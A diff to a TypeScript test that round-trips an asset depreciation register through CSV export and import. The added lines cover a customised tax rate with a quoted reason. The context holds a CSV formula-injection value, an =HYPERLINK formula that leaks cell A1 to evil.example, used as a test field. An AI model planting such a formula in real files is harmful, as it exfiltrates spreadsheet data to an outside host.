@@ -18,6 +18,8 @@ import { taxCode, validAsset } from '../test/register-helpers';
 import { testCsvReader } from './csv-reader.test-support';
 
 const SET_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dining setting")';
+const RATE_REASON =
+  'Self-assessed effective life of 16 years (s40-105), inspection 22/07/2025 "commercial grade"';
 const VIEWS = ['DiminishingValue', '40', 'L', 'CapitalWorks', 'Abandonment', 'IA', 'R'];
 /** Ids differ between the two reports by construction; everything else must not. */
 const ID_KEYS = new Set(['id', 'assetId', 'depreciationReportId', 'modelAsset']);
@@ -67,7 +69,14 @@ describe(`a register of every field exported and imported again, on ${testEngine
     await add({ description: 'Dining chair', originalCost: 150, setName: SET_NAME, fundCode: '-F1' });
     await add({ description: 'Lift car', disposalDate: '2024-03-15', terminationValue: 500.25 });
     await add({ description: 'Carpet (came with the house)', invoiceDate: '2019-04-30', secondHand: true });
-    await add({ description: 'New oven', secondHand: false, financialYearEndDate: '2024-06-30' });
+    // Issue 25 item 4: a customised rate with its reason, a comma and a quote in it.
+    await add({
+      description: 'New oven',
+      secondHand: false,
+      financialYearEndDate: '2024-06-30',
+      sourceTaxRate: 12.5,
+      rateReason: RATE_REASON,
+    });
     await add(
       {
         description: 'Granny flat',
@@ -154,6 +163,10 @@ describe(`a register of every field exported and imported again, on ${testEngine
       .execute();
     expect(verdicts.every((v) => v.has_errors === false)).toBe(true);
     expect(imported.map((a) => a.set_name)).toContain(SET_NAME);
+    expect(imported.find((a) => a.rate_reason)).toMatchObject({
+      source_tax_rate: '12.5000',
+      rate_reason: RATE_REASON,
+    });
     expect(imported.find((a) => a.label)).toMatchObject({
       label: 'Lease end 2024',
       abandonment_date: '2024-06-30',
